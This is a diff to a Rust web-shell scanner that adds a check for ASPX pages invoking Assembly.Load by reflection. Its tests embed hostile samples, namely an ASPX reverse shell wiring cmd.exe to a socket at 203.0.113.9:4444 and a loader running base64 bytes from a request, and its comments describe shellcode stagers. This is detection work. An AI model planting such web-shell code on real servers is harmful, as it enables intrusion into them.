@@ -564,14 +564,15 @@ pub(crate) fn asp(t: &str, hits: &mut Vec<Hit>) {
     if !reported(hits, "scan.heuristic.asp_file_path") {
         disk_path(t, hits);
     }
-    if t.contains("dllimport") || t.contains("getstream()") {
+    if t.contains("dllimport") || t.contains("getstream()") || t.contains("typeof(") {
         native_and_socket_shells(t, hits);
     }
 }
 
 /// ASP.NET pages that leave the web shell's request-response loop: bytes run as machine code
 /// through the Windows API (`VirtualAlloc` then `CreateThread`: a Cobalt Strike or Meterpreter
-/// stager), or a shell process wired to a socket (a reverse shell).
+/// stager), an assembly loaded through a reflected `Assembly.Load`, or a shell process wired
+/// to a socket (a reverse shell).
 fn native_and_socket_shells(t: &str, hits: &mut Vec<Hit>) {
     let shellcode = t.contains("dllimport")
         && t.contains("virtualalloc")
@@ -589,6 +590,23 @@ fn native_and_socket_shells(t: &str, hits: &mut Vec<Hit>) {
             title: "ASPX runs machine code it carries or receives".into(),
             why: "the page imports VirtualAlloc and starts a thread (or calls a pointer) in the memory it allocates: a shellcode stager (Cobalt Strike, Meterpreter) inside the web server's process".into(),
             attack: vec!["T1505.003".into(), "T1055".into()],
+            offset: Some(p),
+            rule: None,
+        });
+    }
+    // `typeof(Assembly).GetMethod("Load", …).Invoke(null, new object[] { bytes })`: Assembly.Load
+    // called by reflection so that no signature sees it (Godzilla's ASPX loader).
+    let hidden_load = ["typeof(system.reflection.assembly)", "typeof(assembly)"]
+        .iter()
+        .find_map(|m| t.find(m))
+        .filter(|&p| crate::heuristics::near(&t[p..], 256).contains(".getmethod(\"load\""));
+    if let Some(p) = hidden_load {
+        hits.push(Hit {
+            check: "scan.heuristic.asp_assembly",
+            severity: Severity::Critical,
+            title: "ASPX loads a .NET assembly through reflection".into(),
+            why: "the page looks up `Assembly.Load` by name and invokes it: a .NET assembly from bytes it holds or receives runs inside the worker process, the call hidden from signatures".into(),
+            attack: vec!["T1505.003".into(), "T1620".into()],
             offset: Some(p),
             rule: None,
         });
@@ -2110,6 +2128,15 @@ file.write rs(i).name
         assert_eq!(ids(asp, stager), ["scan.heuristic.asp_shellcode"]);
         let reverse = "<% var c = new TcpClient(\"203.0.113.9\", 4444); var st = c.GetStream();\nvar p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.RedirectStandardInput = true; p.Start(); %>";
         assert_eq!(ids(asp, reverse), ["scan.heuristic.asp_reverse_shell"]);
+        let reflected = "<% byte[] d = Convert.FromBase64String(Context.Request[p]);\nContext.Session[\"payload\"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); %>";
+        assert!(ids(asp, reflected).contains(&"scan.heuristic.asp_assembly"));
+        assert!(
+            ids(
+                asp,
+                "<% var v = typeof(Assembly).GetMethod(\"GetName\").Invoke(a, null); %>"
+            )
+            .is_empty()
+        );
         // A page that imports the API for something else; a socket client with no process.
         for page in [
             "<script runat=\"server\">[DllImport(\"kernel32\")] static extern uint GetTickCount();</script>",
